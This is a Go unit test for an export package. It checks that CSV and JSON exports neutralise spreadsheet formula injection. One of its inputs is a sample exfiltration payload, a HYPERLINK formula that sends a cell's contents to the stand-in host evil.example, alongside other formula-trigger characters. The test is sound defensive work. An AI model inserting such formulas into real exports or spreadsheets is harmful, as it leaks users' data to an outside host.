package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// A spreadsheet must show the texts of an export, and not calculate them.
func TestNoTextIsAFormula(t *testing.T) {
	t.Parallel()
	texts := []string{
		`=HYPERLINK("http://evil.example/?"&A2)`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "'=1",
		"", "a=1", `{"a":"=1"}`, "1-1", "ü", "\xff",
	}
	var lines, list bytes.Buffer
	for form, into := range map[string]*bytes.Buffer{CSV: &lines, JSON: &list} {
		table, err := newTable(into, form, []string{"payload", encodedColumn, "attempts"})
		if err != nil {
			t.Fatal(err)
		}
		for _, text := range texts {
			if err := table.add(text, "+A==", -1); err != nil {
				t.Fatal(err)
			}
		}
		if err := table.close(); err != nil {
			t.Fatal(err)
		}
	}
	rows, err := csv.NewReader(&lines).ReadAll()
	if err != nil || len(rows) != len(texts)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	var objects []map[string]any
	if err := json.Unmarshal(list.Bytes(), &objects); err != nil {
		t.Fatal(err)
	}
	for i, text := range texts {
		got := rows[i+1]
		if first, _, _ := strings.Cut(got[0], "1"); strings.ContainsAny(first[:min(1, len(first))], "=+-@\t\r\n") || strings.TrimPrefix(got[0], "'") != text && got[0] != text {
			t.Errorf("%q is written as %q", text, got[0])
		}
		if got[1] != "+A==" {
			t.Errorf("base64 is written as %q", got[1])
		}
		if want := strings.ToValidUTF8(text, "\uFFFD"); objects[i]["payload"] != want {
			t.Errorf("JSON has %q for %q", objects[i]["payload"], text)
		}
	}
}
